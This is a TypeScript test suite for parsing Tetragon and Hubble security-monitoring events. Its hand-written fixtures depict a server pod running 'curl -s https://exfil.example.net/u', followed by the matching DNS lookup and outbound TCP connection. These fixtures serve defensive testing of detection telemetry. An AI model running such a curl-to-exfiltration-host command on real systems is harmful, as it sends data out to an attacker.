import assert from "node:assert/strict";
import { describe, it } from "node:test";

import { fromBinary, fromJson, toBinary, toJson } from "@bufbuild/protobuf";
import type { JsonValue } from "@bufbuild/protobuf";
import { timestampDate } from "@bufbuild/protobuf/wkt";

import { countUnknownFields, flow, observer, relay, tetragon } from "../src/index.js";
import { readJsonLines } from "./fixtures.js";

const lenient = { ignoreUnknownFields: true } as const;

// A `tetra getevents -o json` line, written by hand: proto names as keys,
// wrapper "uid":0 present, uint64 as a string, enum as its name, RFC 3339 times.
const tcpConnectLine = String.raw`{"process_kprobe":{"process":{"exec_id":"a2luZC13b3JrZXI6NTk4NzY2MDAwMDAwMDo0MTM3OA==","pid":41378,"uid":0,"cwd":"/app","binary":"/usr/bin/curl","arguments":"-s https://exfil.example.net/u","flags":"execve clone","start_time":"2026-03-02T09:28:31.910220114Z","auid":4294967295,"pod":{"namespace":"mcp","name":"mcp-fs-server-6c9d7b8f4-x2x7q","container":{"id":"containerd://9f2c4e1ab03d","name":"server","image":{"id":"ghcr.io/example/mcp-fs-server@sha256:4b825dc6","name":"ghcr.io/example/mcp-fs-server:0.4.1"},"start_time":"2026-03-02T09:14:05Z","pid":12},"pod_labels":{"app.kubernetes.io/name":"mcp-fs-server"},"workload":"mcp-fs-server","workload_kind":"Deployment"},"docker":"9f2c4e1ab03d","parent_exec_id":"a2luZC13b3JrZXI6NTk4NzY1NDMyMTAxMjo0MTM3Nw==","tid":41378},"parent":{"exec_id":"a2luZC13b3JrZXI6NTk4NzY1NDMyMTAxMjo0MTM3Nw==","pid":41377,"uid":0,"binary":"/bin/sh"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.244.1.17","daddr":"203.0.113.50","sport":48562,"dport":443,"cookie":"18446623334589046080","state":"TCP_SYN_SENT"}}],"action":"KPROBE_ACTION_POST","policy_name":"connect"},"node_name":"kind-worker","time":"2026-03-02T09:28:31.958112647Z"}`;

describe("tetragon protojson (tetra getevents -o json)", () => {
  it("parses a tcp_connect process_kprobe line with proto-name keys", () => {
    const event = fromJson(
      tetragon.GetEventsResponseSchema,
      JSON.parse(tcpConnectLine) as JsonValue,
      lenient,
    );
    assert.equal(event.event.case, "processKprobe");
    if (event.event.case !== "processKprobe") return;
    const kprobe = event.event.value;
    assert.equal(kprobe.functionName, "tcp_connect");
    assert.equal(kprobe.action, tetragon.KprobeAction.POST);
    assert.equal(kprobe.policyName, "connect");
    assert.equal(kprobe.process?.uid, 0);
    assert.equal(kprobe.process?.auid, 4294967295);
    assert.equal(kprobe.process?.pod?.podLabels["app.kubernetes.io/name"], "mcp-fs-server");
    assert.equal(kprobe.process?.pod?.container?.pid, 12);
    assert.equal(kprobe.process?.startTime?.nanos, 910220114);
    const arg = kprobe.args[0]?.arg;
    assert.equal(arg?.case, "sockArg");
    if (arg?.case !== "sockArg") return;
    assert.equal(arg.value.cookie, 18446623334589046080n);
    assert.equal(arg.value.dport, 443);
    assert.equal(event.nodeName, "kind-worker");
    assert.equal(timestampDate(event.time!).toISOString(), "2026-03-02T09:28:31.958Z");
  });

  it("re-emits the same JSON with useProtoFieldName (the shape Tetragon writes)", () => {
    const input = JSON.parse(tcpConnectLine) as JsonValue;
    const event = fromJson(tetragon.GetEventsResponseSchema, input);
    assert.deepEqual(toJson(tetragon.GetEventsResponseSchema, event, { useProtoFieldName: true }), input);
  });

  it("parses every line of fixtures/tetragon-events.jsonl strictly and survives a binary round trip", () => {
    const lines = readJsonLines("tetragon-events.jsonl");
    assert.ok(lines.length >= 3);
    const cases = lines.map((line) => {
      const event = fromJson(tetragon.GetEventsResponseSchema, line as JsonValue);
      const bytes = toBinary(tetragon.GetEventsResponseSchema, event);
      assert.deepEqual(fromBinary(tetragon.GetEventsResponseSchema, bytes), event);
      return event.event.case;
    });
    assert.deepEqual(cases, ["processExec", "processKprobe", "processKprobe", "processExit"]);
  });

  it("decodes capability names including upstream's unprefixed DAC_OVERRIDE", () => {
    const event = fromJson(tetragon.GetEventsResponseSchema, {
      process_exec: {
        process: { cap: { permitted: ["CAP_CHOWN", "DAC_OVERRIDE", "CAP_CHECKPOINT_RESTORE"] } },
      },
    });
    assert.equal(event.event.case, "processExec");
    if (event.event.case !== "processExec") return;
    assert.deepEqual(event.event.value.process?.cap?.permitted, [
      tetragon.CapabilitiesType.CAP_CHOWN,
      tetragon.CapabilitiesType.DAC_OVERRIDE,
      tetragon.CapabilitiesType.CAP_CHECKPOINT_RESTORE,
    ]);
    assert.deepEqual(event.event.value.process?.cap?.permitted, [0, 1, 40]);
  });
});

// `hubble observe -o json` lines: proto names such as "IP", "ipVersion", "Type", "l4":{"TCP":...}.
const dnsLine = String.raw`{"flow":{"time":"2026-03-02T09:28:31.930015442Z","uuid":"a0c3d9e4-7f11-4c52-8e2a-6b5f0d9c1e37","verdict":"FORWARDED","IP":{"source":"10.244.0.5","destination":"10.244.1.17","ipVersion":"IPv4"},"l4":{"UDP":{"source_port":53,"destination_port":51733}},"source":{"ID":187,"identity":6812,"namespace":"kube-system","labels":["k8s:k8s-app=kube-dns"],"pod_name":"coredns-7db6d8ff4d-4lq9m"},"destination":{"ID":2911,"identity":48213,"namespace":"mcp","labels":["k8s:app.kubernetes.io/name=mcp-fs-server"],"pod_name":"mcp-fs-server-6c9d7b8f4-x2x7q","workloads":[{"name":"mcp-fs-server","kind":"Deployment"}]},"Type":"L7","node_name":"kind-hangar/kind-worker","l7":{"type":"RESPONSE","latency_ns":"1843000","dns":{"query":"exfil.example.net.","ips":["203.0.113.50"],"ttl":300,"observation_source":"proxy","qtypes":["A"],"rrtypes":["A"]}},"event_type":{"type":129},"traffic_direction":"EGRESS","is_reply":true,"Summary":"DNS Answer \"203.0.113.50\" TTL: 300 (Proxy exfil.example.net. A)"},"node_name":"kind-hangar/kind-worker","time":"2026-03-02T09:28:31.930015442Z"}`;

const tcpSynLine = String.raw`{"flow":{"time":"2026-03-02T09:28:31.958540210Z","verdict":"FORWARDED","ethernet":{"source":"6a:1f:03:9c:44:e2","destination":"2e:7b:aa:10:5d:01"},"IP":{"source":"10.244.1.17","destination":"203.0.113.50","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":48562,"destination_port":443,"flags":{"SYN":true}}},"source":{"ID":2911,"identity":48213,"namespace":"mcp","pod_name":"mcp-fs-server-6c9d7b8f4-x2x7q"},"destination":{"identity":2,"labels":["reserved:world"]},"Type":"L3_L4","node_name":"kind-hangar/kind-worker","destination_names":["exfil.example.net"],"event_type":{"type":4,"sub_type":3},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","trace_reason":"NEW","is_reply":false,"interface":{"index":14,"name":"lxc8a1d0e2f7c11"},"Summary":"TCP Flags: SYN"},"node_name":"kind-hangar/kind-worker","time":"2026-03-02T09:28:31.958540210Z"}`;

describe("hubble protojson (hubble observe -o json)", () => {
  it("parses a DNS L7 response flow", () => {
    const response = fromJson(observer.GetFlowsResponseSchema, JSON.parse(dnsLine) as JsonValue, lenient);
    assert.equal(response.responseTypes.case, "flow");
    if (response.responseTypes.case !== "flow") return;
    const f = response.responseTypes.value;
    assert.equal(f.Type, flow.FlowType.L7);
    assert.equal(f.verdict, flow.Verdict.FORWARDED);
    assert.equal(f.IP?.ipVersion, flow.IPVersion.IPv4);
    assert.equal(f.l4?.protocol.case, "UDP");
    assert.equal(f.l7?.type, flow.L7FlowType.RESPONSE);
    assert.equal(f.l7?.latencyNs, 1843000n);
    assert.equal(f.l7?.record.case, "dns");
    if (f.l7?.record.case !== "dns") return;
    assert.equal(f.l7.record.value.query, "exfil.example.net.");
    assert.deepEqual(f.l7.record.value.ips, ["203.0.113.50"]);
    assert.equal(f.isReply, true);
    assert.equal(f.destination?.workloads[0]?.kind, "Deployment");
    assert.equal(response.nodeName, "kind-hangar/kind-worker");
  });

  it("parses a TCP SYN flow with flags, direction and observation point", () => {
    const response = fromJson(observer.GetFlowsResponseSchema, JSON.parse(tcpSynLine) as JsonValue, lenient);
    assert.equal(response.responseTypes.case, "flow");
    if (response.responseTypes.case !== "flow") return;
    const f = response.responseTypes.value;
    assert.equal(f.l4?.protocol.case, "TCP");
    if (f.l4?.protocol.case !== "TCP") return;
    assert.equal(f.l4.protocol.value.destinationPort, 443);
    assert.equal(f.l4.protocol.value.flags?.SYN, true);
    assert.equal(f.l4.protocol.value.flags?.ACK, false);
    assert.equal(f.Type, flow.FlowType.L3_L4);
    assert.equal(f.trafficDirection, flow.TrafficDirection.EGRESS);
    assert.equal(f.traceObservationPoint, flow.TraceObservationPoint.TO_STACK);
    assert.equal(f.traceReason, flow.TraceReason.NEW);
    // BoolValue wrapper: an explicit false is kept, distinct from unset.
    assert.equal(f.isReply, false);
    assert.equal(f.interface?.name, "lxc8a1d0e2f7c11");
    assert.equal(f.Summary, "TCP Flags: SYN");
  });

  it("parses every line of fixtures/hubble-flows.jsonl strictly", () => {
    const cases = readJsonLines("hubble-flows.jsonl").map((line) => {
      const response = fromJson(observer.GetFlowsResponseSchema, line as JsonValue);
      assert.equal(countUnknownFields(response), 0);
      return response.responseTypes.case;
    });
    assert.deepEqual(cases, ["flow", "flow", "flow", "lostEvents"]);
  });

  it("parses a policy drop and a lost-events notice", () => {
    const [, , drop, lost] = readJsonLines("hubble-flows.jsonl").map((line) =>
      fromJson(observer.GetFlowsResponseSchema, line as JsonValue),
    );
    assert.equal(drop?.responseTypes.case, "flow");
    if (drop?.responseTypes.case === "flow") {
      assert.equal(drop.responseTypes.value.verdict, flow.Verdict.DROPPED);
      assert.equal(drop.responseTypes.value.dropReasonDesc, flow.DropReason.POLICY_DENY);
      assert.equal(drop.responseTypes.value.egressDeniedBy[0]?.revision, 12n);
    }
    assert.equal(lost?.responseTypes.case, "lostEvents");
    if (lost?.responseTypes.case === "lostEvents") {
      assert.equal(lost.responseTypes.value.source, flow.LostEventSource.HUBBLE_RING_BUFFER);
      assert.equal(lost.responseTypes.value.numEventsLost, 412n);
      assert.equal(lost.responseTypes.value.cpu, 1);
    }
  });

  it("parses a relay node_status event", () => {
    const response = fromJson(observer.GetFlowsResponseSchema, {
      node_status: {
        state_change: "NODE_UNAVAILABLE",
        node_names: ["kind-hangar/kind-worker2"],
        message: "dial timeout",
      },
      time: "2026-03-02T09:30:00Z",
    });
    assert.equal(response.responseTypes.case, "nodeStatus");
    if (response.responseTypes.case !== "nodeStatus") return;
    assert.equal(response.responseTypes.value.stateChange, relay.NodeState.NODE_UNAVAILABLE);
  });
});
